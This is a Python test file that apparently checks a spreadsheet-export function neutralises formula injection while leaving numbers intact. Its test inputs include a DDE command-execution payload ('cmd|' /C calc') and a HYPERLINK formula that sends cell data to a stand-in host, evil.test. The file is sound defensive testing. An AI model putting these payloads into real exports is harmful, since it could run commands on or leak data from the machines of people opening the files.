# SPDX-License-Identifier: Apache-2.0
"""Cells of exports: a spreadsheet takes none of them for a formula, and numbers stay numbers."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reticent_server.web.spreadsheets import cell

FORMULA = re.compile(r"[\s\0]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]")


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\0=1",
        "\N{MINUS SIGN}1+cmd|' /C calc'!A0",
        "a;=1+1",
        "a\t=1+1",
        "\N{FULLWIDTH EQUALS SIGN}1+1",
        '=HYPERLINK("http://evil.test?"&A1)',
    ],
)
def test_what_a_spreadsheet_would_compute_is_text(text: str) -> None:
    for part in re.split(r"[;\t\r\n]", cell(text)):
        assert not FORMULA.match(part)


@pytest.mark.parametrize(
    ("text", "number"),
    [
        ("\N{MINUS SIGN}1.5", "-1.5"),
        ("-3", "-3"),
        ("1,234.5", "1,234.5"),
        ("-2.5e-06", "-2.5e-06"),
        ("+7 %", "'+7 %"),
        ("", ""),
        ("C(g)[a]", "C(g)[a]"),
    ],
)
def test_numbers_and_words_stay(text: str, number: str) -> None:
    assert cell(text) == number


@given(st.text(st.sampled_from("=+-@;\t\r\n \0a1\u2212\uff1d")))
def test_no_text_is_a_formula(text: str) -> None:
    shown = cell(text)
    if re.fullmatch(r"[+-]?[0-9][0-9.,]*(e[+-]?[0-9]+)?%?", shown):
        return
    assert not any(FORMULA.match(part) for part in re.split(r"[;\t\r\n]", shown))
